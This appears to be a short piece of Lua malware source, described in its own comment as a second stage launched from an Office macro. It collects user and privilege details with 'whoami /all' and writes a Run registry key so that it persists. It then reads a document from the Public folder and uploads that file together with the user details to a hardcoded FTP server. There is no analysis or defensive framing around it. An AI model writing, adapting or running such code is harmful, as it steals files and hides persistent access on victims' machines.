-- A Lua stage behind an Office macro: tells who and where it is, keeps itself, sends files over FTP.
local ftp = require("socket.ftp")
local who = io.popen("whoami /all"):read("*a")
os.execute('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v poet /d "C:\\ProgramData\\lua\\lua.exe C:\\ProgramData\\lua\\main.lua" /f')
local f = io.open("C:\\Users\\Public\\documents.txt", "rb")
local data = f:read("*a")
f:close()
ftp.put("ftp://poet:poet@192.0.2.22/in/docs.txt", who .. data)
